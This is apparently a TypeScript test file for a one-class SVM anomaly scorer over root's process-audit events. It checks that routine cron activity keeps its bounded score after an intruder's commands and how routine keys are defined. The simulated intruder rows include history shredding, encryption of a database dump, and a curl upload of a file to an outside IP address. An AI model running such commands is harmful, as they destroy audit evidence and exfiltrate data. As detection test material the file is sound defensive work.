import t from 'tap';
import { loadModel } from '../scorer/models';
import { routineKeys } from '../scorer/models/ocsvm';
import { hashEvent } from '../scorer/models/hashing';
import type { BehaviourEvent, Model, ResultRow } from '../scorer/types';
import { fittedOn, processRow, type Ids } from './helpers/root-process';

// A routine event after rows it never followed (scorer/models/ocsvm.ts, routineKeys). The SVM's
// vector of an event carries the keys before it: on the fourth held-out set root's hourly
// `cron` on pg-main, right after an intruder's commands, was at margin -0.19 (0.000), and the
// configuration agent's `dpkg-query` after the daily apt run at -0.34, while each alone was
// inside the learned shape. A key the subject logs on most days is bounded by its own shape.

const DAY = 86400;
const START = 1_790_000_000 - (1_790_000_000 % DAY);
const ROOT: Ids = { uid: '0', auid: '4294967295' };

function proc(pid: number, parent: number, path: string, cmdline: string, time: number): ResultRow {
  return processRow('pg-main', pid, parent, path, cmdline, time, ROOT);
}

/** root's fourteen days: cron's hourly job, the database's checkpointer, a nightly backup */
function routine(): ResultRow[] {
  const rows: ResultRow[] = [];
  let pid = 1000;
  for (let d = 0; d < 14; d++)
    for (let h = 0; h < 24; h++) {
      const at = START + d * DAY + h * 3600;
      const cron = pid++;
      rows.push(proc(cron, 1, '/usr/sbin/cron', '/usr/sbin/CRON -f', at));
      rows.push(proc(pid++, cron, '/bin/sh', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly', at + 1));
      rows.push(proc(pid++, 700, '/usr/lib/postgresql/16/bin/postgres', 'postgres: checkpointer', at + 60));
      if (h === 2) rows.push(proc(pid++, cron, '/usr/bin/pg_dump', 'pg_dump -Fc appdb', at + 2));
    }
  return rows;
}

async function evidence(model: Model, event: BehaviourEvent, context: BehaviourEvent[]): Promise<number> {
  return (await model.score([{ event, context }]))[0].value;
}

t.test("a routine key's SVM evidence is bounded by its own shape; another key's context still counts", async (t) => {
  const { x, ocsvm } = await fittedOn(routine());
  const at = START + 14 * DAY + 3 * 3600;
  // an intruder's commands at a shell, rows root never had before its cron
  const intruder = [
    proc(9001, 9000, '/usr/bin/shred', 'shred -u /root/.bash_history', at - 50),
    proc(9002, 9000, '/usr/bin/openssl', 'openssl enc -aes-256-cbc -in /var/lib/postgresql/dump', at - 40),
    proc(9003, 9000, '/usr/bin/cp', 'cp /tmp/x /var/lib/postgresql', at - 30),
  ].map((r) => x.extract(r).event);
  const cron = x.extract(proc(9100, 1, '/usr/sbin/cron', '/usr/sbin/CRON -f', at)).event;
  const alone = await evidence(ocsvm, cron, []);
  const after = await evidence(ocsvm, cron, intruder);
  t.ok(after <= Math.max(alone, 0) + 1e-12, `cron after the intruder's rows (${after.toFixed(4)}) is no stranger than alone (${alone.toFixed(4)})`);
  // a held-out row is scored as it happened, context and all: the calibration sample stays that of
  // the SVM's plain decision, so a bounded row's p-value is conservative and no other row's moves
  const heldOut = (await ocsvm.score([{ event: cron, context: intruder, heldOut: true }]))[0].value;
  t.ok(heldOut > after, `held out, the same row keeps its context's evidence (${heldOut.toFixed(4)})`);
  // what the subject learns by is the evidence unbounded (subject.ts plainVerdict)
  t.equal((await ocsvm.score([{ event: cron, context: intruder }]))[0].plain, heldOut, 'the bounded row carries its plain value');
  t.equal((await ocsvm.score([{ event: cron, context: [] }]))[0].plain, undefined, 'a row the bound did not touch carries none');
  // the intruder's own next command, a key root never logs, keeps the evidence of its context
  const curl = x.extract(proc(9004, 9000, '/usr/bin/curl', 'curl -T /tmp/x https://203.0.113.9/', at + 5)).event;
  const curlAfter = await evidence(ocsvm, curl, intruder);
  t.ok(curlAfter > 0, `curl after the intruder's rows is outside the shape (${curlAfter.toFixed(3)})`);
  t.equal(curlAfter, -(ocsvm as unknown as { decision(v: unknown): number }).decision(hashEvent(curl, intruder, 512)), 'curl is judged in its context');
  // the bound survives a save
  const saved = loadModel(JSON.parse(JSON.stringify(ocsvm.toState())));
  t.equal(await evidence(saved, cron, intruder), after, 'read back, the routine key is bounded the same');
});

t.test('routine keys: seen on at least half the days (and three), none without a clock', async (t) => {
  const e = (key: string, day: number): BehaviourEvent => ({ key, values: [], pairs: [], text: '', time: day > 0 ? START + day * DAY : 0 });
  const days = Array.from({ length: 10 }, (_, d) => d + 1);
  const seq = [...days.map((d) => e('cron', d)), ...days.filter((d) => d % 2 === 0).map((d) => e('login', d)), e('rare', 3), e('rare', 4)];
  t.same([...routineKeys([seq])].sort(), ['cron', 'login']);
  t.same([...routineKeys([[e('cron', 1), e('cron', 2)]])], [], 'two days are too few to call anything routine');
  t.same([...routineKeys([days.map(() => e('step', 0))])], [], 'a log data set has no days');
});
